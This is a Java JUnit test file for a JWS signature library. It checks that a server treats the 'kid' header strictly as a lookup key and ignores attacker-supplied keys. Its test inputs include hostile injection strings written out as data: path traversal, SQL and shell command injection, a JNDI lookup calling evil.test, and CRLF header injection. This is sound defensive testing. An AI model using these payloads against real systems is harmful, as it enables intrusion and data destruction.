package dev.signet;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;

import dev.signet.jose.JwsAlgorithm;
import dev.signet.jose.SignatureEngines;
import dev.signet.jose.SigningKey;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** Attack: {@code kid} as code, and keys that the signature brings itself (protocol section 1: never used to find a key). */
class KeyInjectionTest {
    private final TestServer server = new TestServer();

    @ParameterizedTest
    @ValueSource(
            strings = {
                "../../../../dev/null",
                "/dev/null",
                "file:///etc/passwd",
                "https://evil.test/jwks.json",
                "x' UNION SELECT 'secret'--",
                "'; DROP TABLE keys;--",
                "| sleep 10",
                "$(id)",
                "${jndi:ldap://evil.test/a}",
                "%00",
                "Ed25519\u0000",
                "Ed25519\n",
                "a\r\nX-Injected: 1",
                "*",
                "../Ed25519",
                "\ud83d\ude00"
            })
    void kidIsLookedUpAndNothingElse(String kid) {
        TestServer.Outcome outcome =
                server.send(TestSigner.request().string("kid", kid).sign());
        assertEquals("signature_unknown", outcome.verdict());
        outcome.response()
                .headers()
                .forEach(field -> assertFalse(field.getValue().matches("(?s).*[\r\n].*"), field.getKey()));
        assertFalse(outcome.response().text().contains("evil"), "the refusal does not echo it");
    }

    @Test
    void kidOfSixKibibytes() {
        assertEquals("signature_unknown", server.verdict(TestSigner.request().string("kid", "k".repeat(4000))));
        assertEquals("signature_malformed", server.verdict(TestSigner.request().string("kid", "k".repeat(6144))));
    }

    @ParameterizedTest
    @ValueSource(strings = {"jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256", "keys"})
    void keysThatTheHeaderBringsAreIgnored(String member) {
        SigningKey attacker = SigningKey.generate(JwsAlgorithm.ED25519, "Ed25519", SignatureEngines.current());
        String jwk = attacker.publicJwk().toJSONString();
        String value = switch (member) {
            case "jwk" -> jwk;
            case "x5c" -> "[\"" + "MIIB".repeat(20) + "\"]";
            case "keys" -> "[" + jwk + "]";
            default -> "\"https://evil.test/keys\"";
        };
        assertEquals(
                "signature_invalid",
                server.verdict(TestSigner.request().signedBy(attacker).json(member, value)));
        assertEquals(
                "signature_unknown",
                server.verdict(TestSigner.request()
                        .signedBy(attacker)
                        .string("kid", attacker.publicJwk().getKeyID() + "x")
                        .json(member, value)));
        assertEquals("accepted", server.verdict(TestSigner.request().json(member, value)));
        assertEquals(
                "signature_malformed",
                server.verdict(TestSigner.request().json(member, value).json("crit", "[\"" + member + "\"]")));
    }
}
